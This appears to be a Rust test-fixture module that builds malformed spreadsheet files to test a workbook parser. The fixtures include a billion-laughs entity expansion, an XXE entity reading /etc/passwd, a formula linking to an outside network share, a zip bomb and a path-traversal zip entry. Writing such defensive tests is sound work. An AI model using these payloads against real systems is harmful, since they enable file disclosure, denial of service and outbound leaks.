//! Bad workbooks, put together by hand.
use std::io::Write;

use rust_xlsxwriter::Workbook;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::made::Files;

/// A packed file with these parts.
fn packed(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// A workbook of one sheet, put together by hand.
fn sheet(xml: &str, shared: &str) -> Vec<u8> {
    const BOOK: &[u8] =
        br#"<workbook><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>"#;
    const LINKS: &[u8] = br#"<Relationships><Relationship Id="r1" Type="t/worksheet" Target="worksheets/s.xml"/><Relationship Id="r2" Type="t/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#;
    const ROOT: &[u8] = br#"<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    packed(&[
        ("_rels/.rels", ROOT),
        ("xl/workbook.xml", BOOK),
        ("xl/_rels/workbook.xml.rels", LINKS),
        ("xl/sharedStrings.xml", shared.as_bytes()),
        ("xl/worksheets/s.xml", xml.as_bytes()),
    ])
}

pub fn workbooks() -> Files {
    const LAUGHS: &str = "<?xml version=\"1.0\"?><!DOCTYPE sst [<!ENTITY a \"xxxxxxxxxx\"><!ENTITY b \"&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;\">]><sst><si><t>&c;&c;</t></si></sst>";
    const OUTSIDE: &str = "<?xml version=\"1.0\"?><!DOCTYPE sst [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><sst><si><t>&x;</t></si></sst>";
    const ONE: &str = "<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row></sheetData></worksheet>";
    let mut linked = Workbook::new();
    let outside = rust_xlsxwriter::Formula::new("='\\\\jahat\\x\\[a.xlsx]A'!A1");
    linked.add_worksheet().write_formula(0, 0, outside).unwrap();
    let far = "<worksheet><dimension ref=\"A1:XFD1048576\"/><sheetData><row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row></sheetData></worksheet>";
    let beyond = "<worksheet><sheetData><row r=\"99999999999\"><c r=\"ZZZZZZ9999999999\"><v>1</v></c></row></sheetData></worksheet>";
    let rows = "<row><c><v>1</v></c></row>".repeat(1_000_000);
    let columns = format!(
        "<worksheet><sheetData><row>{}</row></sheetData></worksheet>",
        "<c><v>1</v></c>".repeat(200_000)
    );
    let string = format!("<sst><si><t>{}</t></si></sst>", "x".repeat(3 << 20));
    let uses = "<row><c t=\"s\"><v>0</v></c></row>".repeat(50_000);
    vec![
        ("a workbook of nothing", packed(&[("xl/workbook.xml", b"<workbook/>")])),
        ("a workbook of another kind", packed(&[("content.xml", b"<a/>")])),
        ("billions of laughs in a workbook", sheet(ONE, LAUGHS)),
        ("a file from elsewhere in a workbook", sheet(ONE, OUTSIDE)),
        ("a formula to another computer", linked.save_to_buffer().unwrap()),
        ("a cell in the last corner", sheet(far, "<sst/>")),
        ("a cell beyond all corners", sheet(beyond, "<sst/>")),
        ("a shared text that is not there", sheet(ONE, "<sst/>")),
        (
            "a million rows of nothing",
            sheet(&format!("<worksheet><sheetData>{rows}</sheetData></worksheet>"), "<sst/>"),
        ),
        ("200,000 columns", sheet(&columns, "<sst/>")),
        (
            "one long text, 50,000 times",
            sheet(&format!("<worksheet><sheetData>{uses}</sheetData></worksheet>"), &string),
        ),
        ("elements, 100,000 deep", sheet(&"<a>".repeat(100_000), "<sst/>")),
        (
            "a bomb",
            packed(&[
                ("xl/workbook.xml", b"<workbook/>"),
                ("xl/sharedStrings.xml", &vec![b' '; 80 << 20]),
            ]),
        ),
        (
            "a path that climbs",
            packed(&[
                ("../../xl/workbook.xml", b"<workbook/>"),
                ("xl/workbook.xml", b"<workbook/>"),
            ]),
        ),
        ("a workbook cut short", sheet(ONE, "<sst/>")[..200].to_vec()),
    ]
}
